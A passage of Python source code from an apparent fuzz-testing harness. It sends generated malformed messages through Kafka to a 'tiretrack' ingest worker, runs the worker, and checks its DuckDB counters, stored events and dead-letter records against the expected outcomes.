    props = read_properties(kafka.properties_file) if kafka.properties_file else {}
    props.update(kafka.extra)
    path = db.with_name(db.name + ".kafka.properties")
    path.touch(mode=0o600)
    path.write_text("".join(f"{k}={v}\n" for k, v in props.items()), encoding="utf-8")
    return path


def check_store(db: Path, delivered: list[Delivered]) -> tuple[dict[str, int], list[str]]:
    """Compare the worker's database with the expected outcome of every delivered message."""
    problems: list[str] = []
    con = connect_file(db, read_only=True)
    try:
        row = con.execute(
            "SELECT messages, accepted, duplicates, rejected FROM ingest_stats WHERE id = 1"
        ).fetchone()
        events = con.execute('SELECT topic, "partition", "offset", event_id FROM events')
        stored = {(t, p, o): e for t, p, o, e in events.fetchall()}
        dead = con.execute(
            'SELECT topic, "partition", "offset", reason, "key", "value" FROM dead_letters'
        ).fetchall()
    except duckdb.Error as e:
        return {}, [f"cannot read {db}: {e}"]
    finally:
        con.close()
    names = ("messages", "accepted", "duplicates", "rejected")
    counted = dict(zip(names, row, strict=True)) if row else {}
    expected: Counter[str] = Counter(d.message.expected for d in delivered)
    for name, outcome in (("accepted", VALID), ("duplicates", DUPLICATE), ("rejected", REJECTED)):
        if counted.get(name) != expected[outcome]:
            problems.append(
                f"ingest_stats.{name} = {counted.get(name)}, expected {expected[outcome]}"
            )
    if counted.get("messages") != len(delivered):
        problems.append(
            f"ingest_stats.messages = {counted.get('messages')}, produced {len(delivered)}"
        )

    by_position = {(d.topic, d.partition, d.offset): d for d in delivered}
    valid = {pos: d for pos, d in by_position.items() if d.message.expected == VALID}
    for pos in sorted(valid.keys() - stored.keys()):
        problems.append(f"valid message {pos} ({valid[pos].message.case}) is not in events")
    for pos in sorted(stored.keys() - valid.keys()):
        case = by_position[pos].message.case if pos in by_position else "not produced"
        problems.append(f"events holds {pos} ({case}), which is not an expected valid message")
    for pos in sorted(valid.keys() & stored.keys()):
        if stored[pos] != valid[pos].message.event_id:
            problems.append(f"events {pos} has event_id {stored[pos]!r}, expected another")

    rejected = {pos: d for pos, d in by_position.items() if d.message.expected == REJECTED}
    seen: set[tuple[str, int, int]] = set()
    for topic, partition, offset, reason, key, value in dead:
        pos = (topic, partition, offset)
        d = rejected.get(pos)
        if d is None or pos in seen:
            case = by_position[pos].message.case if pos in by_position else "not produced"
            problems.append(f"dead_letters holds {pos} ({case}), not an expected rejection")
            continue
        seen.add(pos)
        if not reason or "\n" in reason:
            problems.append(f"dead letter {pos} ({d.message.case}) has reason {reason!r}")
        if value != d.message.value or key != d.message.key:
            problems.append(f"dead letter {pos} ({d.message.case}) lost its original bytes")
    for pos in sorted(rejected.keys() - seen):
        problems.append(f"rejected message {pos} ({rejected[pos].message.case}) not dead-lettered")
    return counted, problems


def run_fuzz(kafka: KafkaSettings, db: Path, count: int, seed: int) -> FuzzReport:
    """Produce `count` hostile messages to the (fresh, empty) topics of `kafka`, run the real
    worker (`tiretrack ingest --stop-at-end`) into a new database `db`, and check the accounting:
    counters, events, dead letters (by topic, partition and offset, with the original bytes)."""
    if db.exists():
        raise ConfigError(f"{db} exists: the fuzz run needs a new database file")
    messages = hostile_messages(seed, count)
    ensure_topics(kafka, [*kafka.topics, *(t + DLQ_SUFFIX for t in kafka.topics)])
    started = time.monotonic()
    delivered = produce_messages(kafka, messages)
    produce_s = time.monotonic() - started

    db.parent.mkdir(parents=True, exist_ok=True)
    properties = _properties_file(kafka, db)
    started = time.monotonic()
    try:
        worker = subprocess.run(
            worker_command(kafka, db, properties),
            cwd=REPO_DIR,
            capture_output=True,
            text=True,
            stdin=subprocess.DEVNULL,
            timeout=600 + count / 20,
        )
        exit_code, stderr = worker.returncode, worker.stderr
    except subprocess.TimeoutExpired as e:
        partial = e.stderr.decode("utf-8", "replace") if isinstance(e.stderr, bytes) else e.stderr
        exit_code, stderr = -1, (partial or "") + "\n(the worker timed out and was stopped)"
    ingest_s = time.monotonic() - started

    problems: list[str] = []
    if exit_code != 0:
        last = stderr.strip().splitlines()[-1:] or ["no output"]
        problems.append(f"worker exited {exit_code}: {last[0]}")
    if "Traceback" in stderr:
        problems.append("worker printed a traceback")
    counted: dict[str, int] = {}
    if db.exists():
        counted, found = check_store(db, delivered)
        problems += found
    else:
        problems.append(f"the worker wrote no database at {db}")
    return FuzzReport(
        seed=seed,
        produced=len(delivered),
        expected=dict(Counter(d.message.expected for d in delivered)),
        counted=counted,
        large_messages=sum(1 for m in messages if len(m.value or b"") > LARGE),
        produce_s=produce_s,
        ingest_s=ingest_s,
        worker_exit_code=exit_code,
        problems=tuple(problems),
        delivered=tuple(delivered),
        worker_stderr=stderr,
    )
